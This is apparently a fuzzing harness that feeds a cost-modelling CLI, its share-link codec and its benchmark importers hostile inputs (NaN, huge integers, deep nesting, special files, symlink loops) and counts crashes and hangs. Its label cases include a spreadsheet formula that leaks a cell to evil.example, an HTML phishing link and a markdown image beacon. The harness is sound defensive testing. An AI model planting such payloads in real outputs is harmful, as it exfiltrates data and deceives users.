"""A hostile-input attack on the CLI and the link codec: how many inputs still end in a traceback or a hang.

    python bench/attack_hostile_inputs.py [--only SUBSTRING] [--list]

(`--only usage:`, `--only eval:`, `--only link:` run one of the surfaces in bench/attack_cases_new_surfaces.py.)

Each case runs `inference-roi …` in a forked child (imports loaded once), with a 20 s wall limit and a 3 GiB
memory limit, in a scratch folder holding a copy of the bundled scenarios and profiles. Outcomes:

- ok        exit 2 with a one-line message (or exit 0 with finite output when the input is valid);
- crash     any exception other than the project's own error, a traceback, or another exit status;
- hang      past the wall limit;
- bad-out   exit 0 but `nan`/`inf` printed where a number should be, or "written" claimed for a failed write;
- leak      a file the input never named was read (its content or model name shown);
- multi-line / dump  an error of more than one line, or over 500 characters.

The cases are the classes of issue 10: special files and paths, nesting and huge integers, non-finite and
extreme numbers in every numeric scenario field, dates, CR-only CSV, `--out` a directory, bad command-line
numbers, the share-link codec, and the importers (each of the first 40 numeric fields of every fixture set to
text, NaN, Infinity, 1e999, "", -1, 0, 1e308, a list or an object).
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import re
import resource
import shutil
import signal
import sys
import tempfile
import traceback
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.append(str(ROOT / "bench"))  # after the project: bench/usage_import_speed.py must not shadow the usage package

import attack_cases_new_surfaces as attack_surfaces  # noqa: E402  (bench/attack_cases_new_surfaces.py: usage, evals, --out, links in the app)

from cli.main import main as cli_main  # noqa: E402
from datafiles import InputError  # noqa: E402
from profiling import importers  # noqa: E402, F401  (loaded before forking)
from scenario_io import codec  # noqa: E402
from tco import evaluate  # noqa: E402, F401

WALL_S = 20
MEMORY_BYTES = 3 * 1024**3
BAD_OUTPUT = re.compile(r"(?<![A-Za-z_])(nan|inf|-inf|\$inf|\$nan)(?![A-Za-z_])", re.IGNORECASE)

NUMBERS = {
    "inf": float("inf"),
    "-inf": float("-inf"),
    "nan": float("nan"),
    "1e308": 1e308,
    "subnormal": 5e-324,
    "negative": -1,
    "zero": 0,
    "huge-int": "__HUGE_INT__",  # 5,000 digits, written raw into the file
    "text": "forty",
    "empty": "",
    "list": [1],
    "null": None,
}

OWNED = 1  # owned-fleet-finance's first owned option

SCENARIO_FIELDS = {
    "support-assistant": [
        ("workload", "requests_per_month"),
        ("workload", "input_tokens"),
        ("workload", "output_tokens"),
        ("workload", "cached_input_share"),
        ("workload", "peak_to_average"),
        ("workload", "monthly_growth"),
        ("horizon_months",),
        ("finance", "discount_rate_annual"),
        ("finance", "api_price_decline_annual"),
        ("finance", "staff_usd_per_fte_month"),
        ("capacity", "planning_utilization"),
        ("capacity", "ha_spare_replicas"),
        ("slo", "ttft_p99_s"),
        ("options", 4, "implementation_usd"),
        ("options", 0, "fixed_usd_per_month"),
    ],
    "owned-fleet-finance": [
        ("options", OWNED, "ownership", "server_usd"),
        ("options", OWNED, "ownership", "life_years"),
        ("options", OWNED, "ownership", "residual_share"),
        ("options", OWNED, "ownership", "pue"),
        ("options", OWNED, "ownership", "usd_per_kwh"),
    ],
    "batch-summariser": [
        ("options", 1, "usd_per_gpu_hour"),
    ],
}


@dataclass(frozen=True)
class Case:
    name: str
    argv: Callable[[Path], list[str]]
    check: Callable[[str, str], str | None] | None = None
    """Names a broken promise that is not a crash (a leak, a second line, a false "written"), else None."""


def _scratch() -> Path:
    tmp = Path(tempfile.mkdtemp(prefix="attack-"))
    shutil.copytree(ROOT / "scenarios", tmp / "scenarios")
    shutil.copytree(ROOT / "profiling" / "reference", tmp / "profiling" / "reference")
    shutil.copytree(ROOT / "tests" / "fixtures" / "imports", tmp / "imports")
    return tmp


def _scenario(tmp: Path, name: str) -> dict:
    return yaml.safe_load((tmp / "scenarios" / f"{name}.yaml").read_text())


def _write(tmp: Path, name: str, data: object, text: str | None = None) -> str:
    path = tmp / "scenarios" / name
    path.write_text(text if text is not None else yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return str(path)


def _set(data: dict, path: tuple, value: object) -> None:
    node = data
    for part in path[:-1]:
        node = node[part]
    if path[-1] == "usd_per_gpu_hour":
        node.pop("term", None)  # one price basis at a time
    node[path[-1]] = value


def _yaml_value(value: object) -> str:
    if value == "__HUGE_INT__":
        return "9" * 5000
    if isinstance(value, float) and value != value:
        return ".nan"
    if value == float("inf"):
        return ".inf"
    if value == float("-inf"):
        return "-.inf"
    return json.dumps(value)


def field_cases() -> list[Case]:
    cases = []
    for scenario, fields in SCENARIO_FIELDS.items():
        for path in fields:
            for label, value in NUMBERS.items():

                def argv(tmp: Path, scenario=scenario, path=path, value=value, label=label) -> list[str]:
                    data = _scenario(tmp, scenario)
                    _set(data, path, "__VALUE__")
                    text = yaml.safe_dump(data, sort_keys=False).replace("__VALUE__", _yaml_value(value))
                    return ["compare", _write(tmp, f"{scenario}-{label}.yaml", None, text), "--format", "json"]

                cases.append(Case(f"{scenario}:{'.'.join(map(str, path))}={label}", argv))
    return cases


def special_cases() -> list[Case]:
    def fifo(tmp: Path) -> list[str]:
        path = tmp / "fifo.yaml"
        os.mkfifo(path)
        return ["compare", str(path)]

    def link(target: str) -> Callable[[Path], list[str]]:
        def argv(tmp: Path) -> list[str]:
            (tmp / "link.yaml").symlink_to(target)
            return ["compare", str(tmp / "link.yaml")]

        return argv

    def loop(tmp: Path) -> list[str]:
        (tmp / "a.yaml").symlink_to(tmp / "b.yaml")
        (tmp / "b.yaml").symlink_to(tmp / "a.yaml")
        return ["compare", str(tmp / "a.yaml")]

    def through_file(tmp: Path) -> list[str]:
        return ["compare", str(tmp / "scenarios" / "support-assistant.yaml" / "x.yaml")]

    def pointing(field: str, value: str) -> Callable[[Path], list[str]]:
        def argv(tmp: Path) -> list[str]:
            data = _scenario(tmp, "support-assistant")
            if field == "profile":
                data["options"][4]["profile"] = value.replace("TMP", str(tmp))
            else:
                data[field] = value.replace("TMP", str(tmp))
            return ["compare", _write(tmp, "pointing.yaml", data)]

        return argv

    def nested_yaml(tmp: Path) -> list[str]:
        return ["compare", _write(tmp, "deep.yaml", None, "name: " + "[" * 2000 + "]" * 2000)]

    def nested_block(tmp: Path) -> list[str]:
        text = "".join(f"{'  ' * i}k{i}:\n" for i in range(1500)) + "  " * 1500 + "v: 1\n"
        return ["compare", _write(tmp, "deep-block.yaml", None, text)]

    def nested_json_profile(tmp: Path) -> list[str]:
        (tmp / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
        return ["import", str(tmp / "deep.json"), "--gpu", "H100", "--gpu-count", "1", "--out", str(tmp / "o.yaml")]

    def huge_int_json(tmp: Path) -> list[str]:
        (tmp / "big.json").write_text('{"completed": ' + "9" * 5000 + "}")
        return ["import", str(tmp / "big.json"), "--gpu", "H100", "--gpu-count", "1", "--out", str(tmp / "o.yaml")]

    def cr_csv(tmp: Path) -> list[str]:
        text = "concurrency,req_per_s,ttft_p99_s\r1,2.0,0.1\r2,3.5,0.2\r"
        (tmp / "cr.csv").write_text(text, newline="")
        return ["capacity", str(tmp / "cr.csv"), "--input-tokens", "100", "--output-tokens", "100"]

    def import_out_dir(tmp: Path) -> list[str]:
        (tmp / "outdir").mkdir()
        return ["import", str(tmp / "imports" / "vllm-bench-serve.json"), "--gpu", "H100", "--gpu-count", "1",
                "--model", "llama-3.3-70b-instruct", "--out", str(tmp / "outdir")]  # fmt: skip

    def start(value: str) -> Callable[[Path], list[str]]:
        def argv(tmp: Path) -> list[str]:
            data = _scenario(tmp, "support-assistant")
            data["start"] = value
            return ["compare", _write(tmp, f"start-{value}.yaml", data)]

        return argv

    def growth(value: float) -> Callable[[Path], list[str]]:
        def argv(tmp: Path) -> list[str]:
            data = _scenario(tmp, "support-assistant")
            data["workload"]["monthly_growth"] = value
            return ["compare", _write(tmp, f"growth-{value}.yaml", data)]

        return argv

    def uncertainty(field: str, value: object) -> Callable[[Path], list[str]]:
        def argv(tmp: Path) -> list[str]:
            data = _scenario(tmp, "support-assistant")
            data["uncertainty"] = {field: value}
            return ["compare", _write(tmp, f"u-{field}.yaml", data)]

        return argv

    def cache_write(tmp: Path) -> list[str]:
        data = _scenario(tmp, "support-assistant")
        data["workload"]["cache_write_tokens"] = 5000
        return ["compare", _write(tmp, "cw.yaml", data)]

    def edited(name: str, edit: Callable[[dict], None], text: Callable[[dict], str] | None = None) -> Callable:
        """The support example with `edit` applied (round two of the attack, 2026-12-03)."""

        def argv(tmp: Path) -> list[str]:
            data = _scenario(tmp, "support-assistant")
            edit(data)
            return ["compare", _write(tmp, f"{name}.yaml", data, text(data) if text else None)]

        return argv

    def many_options(data: dict) -> None:
        data["options"] = [{**data["options"][0], "id": f"o{i}"} for i in range(1000)]

    def subnormal_curve(data: dict) -> None:
        data["workload"].pop("peak_to_average", None)
        data["workload"]["daily_curve"] = [5e-324] + [0] * 23

    def huge_growth(data: dict) -> None:
        data.update(horizon_months=120)
        data["workload"].update(requests_per_month=1e15, monthly_growth=10)

    def option_id(value: str) -> Callable[[dict], None]:
        return lambda data: data["options"][0].update(id=value)

    def capacity_arg(flag: str, value: str) -> Callable[[Path], list[str]]:
        def argv(tmp: Path) -> list[str]:
            base = {"--input-tokens": "2000", "--output-tokens": "500", flag: value}
            profile = str(tmp / "profiling" / "reference" / "glm-5-fp8-tp8-vllm-inferencex.yaml")
            return ["capacity", profile, *[x for kv in base.items() for x in kv]]

        return argv

    return [
        Case("file:fifo", fifo),
        Case("file:/dev/zero", lambda tmp: ["compare", "/dev/zero"]),
        Case("file:symlink-to-dev-zero", link("/dev/zero")),
        Case("file:symlink-loop", loop),
        Case("file:path-through-file", through_file),
        Case("file:300-char-name", lambda tmp: ["compare", str(tmp / ("a" * 300 + ".yaml"))]),
        Case("file:directory", lambda tmp: ["compare", str(tmp)]),
        Case("file:profile-missing", pointing("profile", "nope.yaml")),
        Case("file:profile-nul", pointing("profile", "a\x00b.yaml")),
        Case("file:profile-dev-zero", pointing("profile", "/dev/zero")),
        Case("file:overrides-missing", pointing("api_overrides", "nope.yaml")),
        Case("file:overrides-directory", pointing("api_overrides", "TMP")),
        Case("parse:yaml-flow-2000-deep", nested_yaml),
        Case("parse:yaml-block-1500-deep", nested_block),
        Case("parse:json-100000-deep", nested_json_profile),
        Case("parse:json-5000-digit-int", huge_int_json),
        Case("parse:csv-bare-cr", cr_csv),
        Case("out:import-out-directory", import_out_dir),
        Case("date:start-9999-12", start("9999-12")),
        Case("date:start-0000-01", start("0000-01")),
        Case("growth:-0.999", growth(-0.999)),
        Case("growth:9.999", growth(9.999)),
        Case("uncertainty:seed=-1", uncertainty("seed", -1)),
        Case("uncertainty:throughput_rel_sd=-0.0", uncertainty("throughput_rel_sd", -0.0)),
        Case("uncertainty:samples=200000", uncertainty("samples", 200_000)),
        Case("workload:cache_write_too_large", cache_write),
        Case("work:1000-options", edited("many", many_options)),
        Case("workload:daily-curve-subnormal", edited("curve", subnormal_curve)),
        Case("workload:growth-beyond-1e15", edited("growth-huge", huge_growth)),
        Case("parse:yaml-key-twice", edited("twice", lambda d: None, lambda d: yaml.safe_dump(d) + "options: []\n")),
        *(
            Case(f"label:{label}", edited(f"label-{n}", option_id(value)))
            for n, (label, value) in enumerate(
                {
                    "newline": "x\nglm5-h200  rented  $1  recommended",
                    "markdown-image": "![p](http://evil.example/p.png)",
                    "formula": '=HYPERLINK("http://evil.example/?leak="&B2,"open")',
                    "html": '<a href="https://evil.example/phish">LOGIN AGAIN</a>',
                    "100000-chars": "a" * 100_000,
                }.items()
            )
        ),
        *(
            Case(f"capacity:{flag}={value}", capacity_arg(flag, value))
            for flag in ("--input-tokens", "--cached-input-share")
            for value in ("nan", "inf", "-5", "1e308", "0")
        ),
        Case("capacity:--slo=ttft_p99_s=nan", capacity_arg("--slo", "ttft_p99_s=nan")),
    ]


def codec_cases() -> list[Case]:
    """The share-link codec, called directly (the app's edge): each must raise InputError or round-trip."""

    def encode(value: object) -> Callable[[Path], list[str]]:
        def argv(_: Path) -> list[str]:
            data = yaml.safe_load((ROOT / "scenarios" / "support-assistant.yaml").read_text())
            data["workload"]["requests_per_month"] = value
            token = codec.to_url_token(data)
            codec.from_url_token(token)
            return []

        return argv

    def decode(token: str) -> Callable[[Path], list[str]]:
        def argv(_: Path) -> list[str]:
            codec.from_url_token(token)
            return []

        return argv

    import base64
    import zlib

    deep = base64.urlsafe_b64encode(zlib.compress(("[" * 100_000 + "]" * 100_000).encode())).decode()
    return [
        *(Case(f"codec:encode-{k}", encode(v)) for k, v in NUMBERS.items() if k in ("inf", "nan")),
        Case("codec:decode-deep", decode(deep)),
        Case("codec:decode-garbage", decode("!!!not-base64!!!")),
    ]


IMPORT_VALUES = {"text": '"forty"', "empty": '""', "NaN": "NaN", "Infinity": "Infinity", "overflow": "1e999",
                 "negative": "-1", "zero": "0", "1e308": "1e308", "list": "[1]", "object": '{"a": 1}'}  # fmt: skip
IMPORT_FIXTURES = ("vllm-bench-serve.json", "guidellm-benchmarks.json", "aiperf-profile_export_aiperf.json",
                   "sglang-bench-serving.jsonl")  # fmt: skip
INFERENCEX_ROW = {"hardware": "mi355x", "framework": "sglang", "model": "dsr1", "precision": "fp4",
                  "spec_method": "none", "disagg": False, "prefill_tp": 4, "num_prefill_gpu": 4, "decode_tp": 4,
                  "decode_ep": 1, "num_decode_gpu": 4, "isl": 1024, "osl": 1024, "conc": 4, "date": "2026-06-11",
                  "metrics": {"median_ttft": 0.10738, "p99_ttft": 0.53535, "median_tpot": 0.010646, "p99_tpot": 0.01102,
                              "tput_per_gpu": 180.657, "output_tput_per_gpu": 89.889}}  # fmt: skip
"""An InferenceX `/api/v1/benchmarks` row as the dashboard serves it (written here from its schema; the values of
DeepSeek-R1 FP4 on 4 × MI355X at 1k/1k, c = 4): the records importer's numbers are attacked as the fixtures' are."""
INLINE_IMPORTS = {"inferencex-api.json": json.dumps({"data": [INFERENCEX_ROW, {**INFERENCEX_ROW, "conc": 8}]})}
MAX_FIELDS_PER_FILE = 40


def _numeric_paths(doc: object, prefix: tuple = ()) -> list[tuple]:
    """Paths to numeric leaves, breadth first (the headline fields come first)."""
    out, queue = [], [(prefix, doc)]
    while queue:
        path, node = queue.pop(0)
        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else []
        for key, value in items:
            if isinstance(value, bool):
                continue
            if isinstance(value, int | float):
                out.append((*path, key))
            elif isinstance(value, dict | list):
                queue.append(((*path, key), value))
    return out


def import_cases() -> list[Case]:
    """Every importer: each of the first numeric fields of its fixture set to text, NaN, Infinity, …"""
    cases = []
    for fixture in (*IMPORT_FIXTURES, *INLINE_IMPORTS):
        text = INLINE_IMPORTS.get(fixture) or (ROOT / "tests" / "fixtures" / "imports" / fixture).read_text()
        lines = text.splitlines() if fixture.endswith(".jsonl") else [text]
        doc = json.loads(lines[0])
        for path in _numeric_paths(doc)[:MAX_FIELDS_PER_FILE]:
            for label, raw in IMPORT_VALUES.items():

                def argv(tmp: Path, fixture=fixture, lines=lines, path=path, raw=raw, label=label) -> list[str]:
                    data = json.loads(lines[0])
                    _set(data, path, "__VALUE__")
                    first = json.dumps(data).replace('"__VALUE__"', raw)
                    out = tmp / f"hostile-{label}{Path(fixture).suffix}"
                    out.write_text("\n".join([first, *lines[1:]]))
                    return ["import", str(out), "--gpu", "H100", "--gpu-count", "1", "--model",
                            "llama-3.3-70b-instruct", "--out", str(tmp / "o.yaml")]  # fmt: skip

                cases.append(Case(f"import:{fixture}:{'.'.join(map(str, path))}={label}", argv))
    return cases


def _child(case: Case, tmp: Path, pipe_w: int) -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_BYTES, MEMORY_BYTES))
    out, err = io.StringIO(), io.StringIO()
    outcome = "ok"
    argv: list[str] = []
    try:
        argv = case.argv(tmp)
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            rc = cli_main(argv) if argv else 0
        if rc not in (0, 2):
            outcome = f"crash (exit {rc})"
        elif rc == 0 and BAD_OUTPUT.search(out.getvalue()):
            outcome = "bad-out"
        elif case.check is not None:
            outcome = case.check(out.getvalue(), err.getvalue()) or "ok"
    except SystemExit as exc:
        outcome = "ok" if exc.code in (0, 2) else f"crash (exit {exc.code})"
    except BaseException as exc:  # everything that escapes is what we count
        if isinstance(exc, InputError) and not argv:
            outcome = "ok"
        elif str(exc).startswith("leak"):
            outcome = str(exc)
        else:
            outcome = f"crash ({type(exc).__name__}: {str(exc)[:120]})"
            err.write(traceback.format_exc())
    if "Traceback" in err.getvalue() and outcome == "ok":
        outcome = "crash (traceback printed)"
    os.write(pipe_w, outcome.encode()[:4000])
    os._exit(0)


def run(case: Case) -> str:
    tmp = _scratch()
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        _child(case, tmp, write)
    os.close(write)

    def timeout(*_: object) -> None:
        raise TimeoutError

    signal.signal(signal.SIGALRM, timeout)
    signal.alarm(WALL_S)
    try:
        _, status = os.waitpid(pid, 0)
        signal.alarm(0)
        outcome = os.read(read, 4000).decode() or f"crash (child died, status {status})"
    except TimeoutError:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        outcome = "hang"
    finally:
        os.close(read)
        shutil.rmtree(tmp, ignore_errors=True)
    return outcome


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--only", default="")
    parser.add_argument("--list", action="store_true")
    args = parser.parse_args()
    surfaces = [Case(name, run, check) for name, run, check in attack_surfaces.all_cases()]
    every = (*special_cases(), *field_cases(), *codec_cases(), *import_cases(), *surfaces)
    cases = [c for c in every if args.only in c.name]
    tally: Counter[str] = Counter()
    for case in cases:
        outcome = run(case)
        kind = outcome.split(" ")[0]
        tally[kind] += 1
        if kind != "ok" or args.list:
            print(f"{kind:>8}  {case.name}  {outcome if kind != 'ok' else ''}", flush=True)
    print(f"\n{len(cases)} cases: " + ", ".join(f"{k} {v}" for k, v in sorted(tally.items())))


if __name__ == "__main__":
    main()
